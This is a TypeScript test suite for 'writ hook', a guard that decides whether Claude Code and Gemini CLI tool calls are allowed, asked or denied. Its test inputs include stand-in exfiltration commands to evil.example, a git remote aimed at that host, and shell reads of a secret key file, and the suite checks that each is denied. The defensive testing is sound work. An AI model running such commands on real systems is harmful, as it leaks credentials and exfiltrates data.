/**
 * `writ hook`'s judgement, driven with the hook JSON shapes Claude Code and Gemini CLI document,
 * against a real writ.yaml, the decision point and an embedded store (taint, audit): every route to
 * a denied file or an unlisted host is `deny` or `ask`, never `allow`; ordinary work is allowed;
 * taint from a web fetch or an untrusted file refuses privileged calls in that session only.
 */
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadPolicy } from "../../src/app.js";
import { type HookEngine, type HookKind, parseHookInput, renderAnswer } from "../../src/hook/index.js";
import type { Store } from "../../src/store/index.js";
import { claude, gemini, type JudgingEngine, judgingEngine, makeProject, type Project } from "./fixture.js";
import {
  ALLOWED_COMMANDS,
  DENIED_FILE_ROUTES,
  EXFIL_ROUTES,
  PLAINLY_DENIED,
  WHOLE_TREE_ROUTES,
} from "./tables.js";

let p: Project;
let store: Store;
let engine: HookEngine;
let audited: JudgingEngine["audited"];
const ID = { agent: "coder", environment: "dev" };

beforeAll(async () => {
  p = await makeProject();
  ({ store, engine, audited } = await judgingEngine(p));
}, 60_000);

afterAll(async () => {
  await store?.close();
});

async function judge(kind: HookKind, raw: Record<string, unknown>) {
  return engine.judge(ID, parseHookInput(kind, JSON.stringify(raw)));
}
const bash = (command: string, cwd = p.src, session?: string) =>
  judge("claude-code", claude("PreToolUse", "Bash", { command, description: "run" }, cwd, session));

describe("Claude Code: reading a denied file, by every route", () => {
  for (const [name, command] of DENIED_FILE_ROUTES) {
    it(`${name}: never allow`, async () => {
      const v = await bash(command(p));
      expect(v.decision, `${command(p)} → ${v.reason}`).not.toBe("allow");
    });
  }

  it("the plain routes are denied outright, naming the ceiling's deny", async () => {
    for (const c of PLAINLY_DENIED) {
      const v = await bash(c);
      expect(v.decision, c).toBe("deny");
      expect(v.code, c).toBe("explicit_deny");
      expect(v.reason).toContain(p.secret);
    }
  });

  it("the native tools are denied on it, however the path is written", async () => {
    for (const file_path of [
      p.secret,
      "../secret/key.pem",
      join(p.proj, "link"),
      `${p.proj}/src/../secret/./key.pem`,
    ]) {
      const v = await judge("claude-code", claude("PreToolUse", "Read", { file_path }, p.src));
      expect(v, file_path).toMatchObject({ decision: "deny", code: "explicit_deny" });
    }
    for (const [tool, input] of [
      ["Write", { file_path: "../secret/new.pem", content: "x" }],
      ["Edit", { file_path: p.secret, old_string: "a", new_string: "b" }],
      ["Grep", { pattern: "KEY", path: p.proj }],
    ] as const) {
      const v = await judge("claude-code", claude("PreToolUse", tool, input, p.src));
      expect(v.decision, tool).toBe("deny");
    }
  });
});

describe("Claude Code: commands that name no path read the whole repository or folder", () => {
  for (const [command, where] of WHOLE_TREE_ROUTES) {
    it(`${command}: denied, reaching the denied folder`, async () => {
      const v = await bash(command, where(p));
      expect(v, `${command} → ${v.reason}`).toMatchObject({ decision: "deny", code: "explicit_deny" });
      expect(v.reason).toContain(join(p.proj, "secret"));
    });
  }

  it("a repository whose history may hold a denied path not on the disk is an ask; once it is there, a deny", async () => {
    const tools = join(p.proj, "tools");
    await mkdir(join(tools, ".git", "hooks"), { recursive: true });
    await writeFile(join(tools, "run.ts"), "export {};\n");
    const v = await bash("git log -p", tools);
    expect(v, v.reason).toMatchObject({ decision: "ask", code: "ask" });
    expect(v.reason).toContain(join(tools, ".env"));
    expect((await bash("git log -p -- run.ts", tools)).decision).toBe("allow");
    await writeFile(join(tools, ".env"), "TOKEN=x\n");
    expect(await bash("git diff", tools)).toMatchObject({ decision: "deny", code: "explicit_deny" });
    // names and commits only: the denied file's name is in a folder it may list, its content unread
    for (const c of ["git status", "git status --short", "git log", "git log --oneline -5 --graph"]) {
      const v = await bash(c, tools);
      expect(v.decision, `${c}: ${v.reason}`).toBe("allow");
    }
    expect(await bash("git status -v", tools)).toMatchObject({ decision: "deny", code: "explicit_deny" });
  });

  it("a deny of what is in .git (its hooks) does not meet git reading the repository", async () => {
    // lib/.git/hooks/* is denied: git shows none of it, so git on lib is still allowed
    const v = await bash("git log -p", join(p.proj, "lib"));
    expect(v.decision, v.reason).toBe("allow");
    expect(await bash("cat .git/hooks/pre-commit", join(p.proj, "lib"))).toMatchObject({ decision: "deny" });
  });

  it("LS lists every level below its folder: denied over the project, however the folder is named", async () => {
    await symlink(p.proj, join(p.root, "proj-link"));
    for (const [input, cwd] of [
      [{}, p.proj],
      [{ path: p.proj }, p.src],
      [{ path: join(p.root, "proj-link") }, p.root],
      [{ path: join(p.proj, "secret") }, p.proj],
    ] as const) {
      const v = await judge("claude-code", claude("PreToolUse", "LS", input, cwd));
      expect(v, JSON.stringify(input)).toMatchObject({ decision: "deny", code: "explicit_deny" });
      expect(v.reason).toContain(join(p.proj, "secret"));
    }
    const ok = await judge("claude-code", claude("PreToolUse", "LS", { path: p.src }, p.src));
    expect(ok.decision, ok.reason).toBe("allow");
  });
});

describe("Claude Code: exfiltration to an unlisted host", () => {
  for (const command of EXFIL_ROUTES) {
    it(`${command}: never allow`, async () => {
      const v = await bash(command);
      expect(v.decision, v.reason).not.toBe("allow");
    });
  }
  it("git push naming no remote reaches every remote a branch or pushDefault names", async () => {
    const repo = join(p.proj, "tracking");
    await mkdir(join(repo, ".git"), { recursive: true });
    await writeFile(
      join(repo, ".git", "config"),
      '[remote "origin"]\n\turl = https://github.com/acme/t.git\n[remote "evil"]\n\turl = https://evil.example/t.git\n[branch "main"]\n\tremote = evil\n',
    );
    expect(await bash("git push", repo)).toMatchObject({ decision: "deny", code: "no_grant" });
    expect((await bash("git push nosuch main", repo)).decision).toBe("ask");
  });

  it("an unlisted host is a deny by the decision point, and WebFetch too", async () => {
    expect(await bash("curl https://evil.example/")).toMatchObject({ decision: "deny", code: "no_grant" });
    expect(await bash("git push evil main")).toMatchObject({ decision: "deny", code: "no_grant" });
    const v = await judge(
      "claude-code",
      claude("PreToolUse", "WebFetch", { url: "https://evil.example/", prompt: "x" }, p.src),
    );
    expect(v).toMatchObject({ decision: "deny", code: "no_grant" });
  });
});

describe("Claude Code: ordinary work is allowed", () => {
  for (const command of ALLOWED_COMMANDS) {
    it(`${command}: allow`, async () => {
      const v = await bash(command);
      expect(v.decision, v.reason).toBe("allow");
    });
  }
  it("the native tools on the project", async () => {
    for (const [tool, input] of [
      ["Read", { file_path: join(p.src, "a.ts") }],
      ["Write", { file_path: "b.ts", content: "x" }],
      ["Edit", { file_path: join(p.src, "a.ts"), old_string: "1", new_string: "2" }],
      ["Glob", { pattern: "**/*.ts" }],
      ["Grep", { pattern: "export", path: p.src }],
      ["WebFetch", { url: "https://github.com/acme/proj", prompt: "summarise" }],
      ["TodoWrite", { todos: [] }],
    ] as const) {
      const v = await judge("claude-code", claude("PreToolUse", tool, input, p.src));
      expect(v.decision, `${tool}: ${v.reason}`).toBe("allow");
    }
  });
  it("what writ cannot read is ask, not deny, when nothing is denied", async () => {
    expect(await bash("npm test")).toMatchObject({ decision: "ask", code: "ask" });
    expect((await bash("python3 -c 'print(1)'")).decision).toBe("ask");
    // an unknown tool the ceiling does not list is a deny
    const v = await judge("claude-code", claude("PreToolUse", "mcp__db__drop", {}, p.src));
    expect(v).toMatchObject({ decision: "deny", code: "no_grant" });
  });
});

describe("taint", () => {
  it("a web fetch taints its session: writes, hosts and programs that write are refused, reads are not", async () => {
    const s = "taint-web";
    const post = await judge(
      "claude-code",
      claude("PostToolUse", "WebFetch", { url: "https://docs.example.com/a", prompt: "x" }, p.src, s),
    );
    expect(post.decision).toBe("allow");
    const w = await judge(
      "claude-code",
      claude("PreToolUse", "Write", { file_path: "c.ts", content: "x" }, p.src, s),
    );
    expect(w).toMatchObject({ decision: "deny", code: "tainted_session" });
    expect(w.reason).toContain("claude-code:WebFetch");
    expect(await bash("git -C ../lib push origin main", p.src, s)).toMatchObject({
      decision: "deny",
      code: "tainted_session",
    });
    expect(await bash("cat a.ts", p.src, s)).toMatchObject({ decision: "allow" });
    // another session is not tainted
    expect(await bash("echo hi > out.txt", p.src, "other")).toMatchObject({ decision: "allow" });
  });

  it("reading a file under hooks.untrusted taints, through Read or the shell", async () => {
    await judge(
      "claude-code",
      claude("PostToolUse", "Read", { file_path: join(p.proj, "inbox", "mail.txt") }, p.src, "t-file"),
    );
    expect(await bash("echo x > out.txt", p.src, "t-file")).toMatchObject({
      decision: "deny",
      code: "tainted_session",
    });
    await judge(
      "claude-code",
      claude("PostToolUse", "Bash", { command: "cat ../inbox/mail.txt" }, p.src, "t-shell"),
    );
    expect(await bash("touch x", p.src, "t-shell")).toMatchObject({
      decision: "deny",
      code: "tainted_session",
    });
    // an ordinary file does not
    await judge(
      "claude-code",
      claude("PostToolUse", "Read", { file_path: join(p.src, "a.ts") }, p.src, "t-clean"),
    );
    expect(await bash("touch x", p.src, "t-clean")).toMatchObject({ decision: "allow" });
  });
});

describe("Gemini CLI", () => {
  it("its tools are decided as the same actions: read_file and run_shell_command on the denied file are denied", async () => {
    const r = await judge("gemini-cli", gemini("BeforeTool", "read_file", { file_path: p.secret }, p.src));
    expect(r).toMatchObject({ decision: "deny", code: "explicit_deny" });
    const s = await judge(
      "gemini-cli",
      gemini("BeforeTool", "run_shell_command", { command: "head ../secret/key.pem" }, p.src),
    );
    expect(s).toMatchObject({ decision: "deny", code: "explicit_deny" });
    const f = await judge(
      "gemini-cli",
      gemini("BeforeTool", "web_fetch", { prompt: "summarise https://evil.example/x" }, p.src),
    );
    expect(f).toMatchObject({ decision: "deny", code: "no_grant" });
    const ok = await judge(
      "gemini-cli",
      gemini("BeforeTool", "run_shell_command", { command: "ls", dir_path: "." }, p.src),
    );
    expect(ok.decision, ok.reason).toBe("allow");
    const list = await judge(
      "gemini-cli",
      gemini("BeforeTool", "list_directory", { dir_path: p.src }, p.src),
    );
    expect(list.decision, list.reason).toBe("allow");
  });

  it("its listing and many-file tools are decided on the folders they list and every path they read", async () => {
    const tool = (name: string, input: Record<string, unknown>, cwd = p.proj) =>
      judge("gemini-cli", gemini("BeforeTool", name, input, cwd));
    // list_directory: the folder it lists, canonical, however it is named
    await symlink(join(p.proj, "secret"), join(p.root, "secret-link"));
    for (const dir_path of [join(p.proj, "secret"), "secret", join(p.root, "secret-link")]) {
      const v = await tool("list_directory", { dir_path });
      expect(v, dir_path).toMatchObject({ decision: "deny", code: "explicit_deny" });
    }
    expect(await tool("list_directory", {}, join(p.proj, "secret"))).toMatchObject({ decision: "deny" });
    // glob without a folder: below the working directory
    expect(await tool("glob", { pattern: "**/*.pem" })).toMatchObject({ decision: "deny" });
    // read_many_files: `include` adds to `paths`, and `**` crosses folders
    for (const input of [
      { paths: ["src"], include: ["secret/**"] },
      { paths: ["**/*.pem"] },
      { include: ["**/key.pem"] },
      { paths: ["."] },
    ]) {
      const v = await tool("read_many_files", input);
      expect(v, JSON.stringify(input)).toMatchObject({ decision: "deny", code: "explicit_deny" });
      expect(v.reason).toContain(join(p.proj, "secret"));
    }
    const ok = await tool("read_many_files", { paths: ["src"], include: ["**/*.ts"] }, p.src);
    expect(ok.decision, ok.reason).toBe("allow");
  });

  it("answers in Gemini's format; its ask is a deny saying a human must run it", () => {
    const deny = renderAnswer("gemini-cli", "pre", "deny", "no");
    expect(deny).toEqual({
      stdout: `${JSON.stringify({ decision: "deny", reason: "no" })}\n`,
      stderr: "",
      exitCode: 0,
    });
    const ask = JSON.parse(renderAnswer("gemini-cli", "pre", "ask", "unsure").stdout);
    expect(ask.decision).toBe("deny");
    expect(ask.reason).toContain("human");
    // writ only narrows: an allow is no decision (the agent's own prompts apply) unless asked to skip them
    expect(renderAnswer("gemini-cli", "pre", "allow", "ok").stdout).toBe("{}\n");
    expect(renderAnswer("claude-code", "pre", "allow", "ok").stdout).toBe("{}\n");
    expect(JSON.parse(renderAnswer("gemini-cli", "pre", "allow", "ok", true).stdout).decision).toBe("allow");
    const skip = JSON.parse(renderAnswer("claude-code", "pre", "allow", "ok", true).stdout);
    expect(skip.hookSpecificOutput.permissionDecision).toBe("allow");
  });
});

describe("audit", () => {
  it("every decision is recorded with the needs, the decision and the input's digest, never the input", async () => {
    const before = audited.length;
    await bash("cat ../secret/key.pem");
    const rec = audited[before]!;
    expect(rec.type).toBe("hook.decision");
    expect(rec.data).toMatchObject({
      agent: "coder",
      kind: "claude-code",
      tool: "Bash",
      decision: { decision: "deny", code: "explicit_deny" },
    });
    expect(rec.data.needs).toContain(`Read ${p.secret}`);
    expect(String(rec.data.input)).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(JSON.stringify(rec.data)).not.toContain("cat ../secret");
    const last = await store.db
      .selectFrom("audit_records")
      .select(["type"])
      .orderBy("seq", "desc")
      .limit(1)
      .execute();
    expect(last[0]?.type).toBe("hook.decision");
  });
});

describe("the hooks: section", () => {
  it("refuses an untrusted glob that is not absolute, naming where", async () => {
    const text = (await import("node:fs/promises")).readFile(p.config, "utf8");
    const bad = (await text).replace(`untrusted: ["${p.proj}/inbox/**"]`, `untrusted: ["inbox/**"]`);
    const file = join(p.root, "bad.yaml");
    await writeFile(file, bad);
    const { policy, problems } = await loadPolicy(file);
    expect(policy).toBeUndefined();
    expect(problems).toContainEqual(
      expect.objectContaining({ code: "ERR_CONFIG_HOOKS", path: "hooks.untrusted[0]", line: 29 }),
    );
  });
});
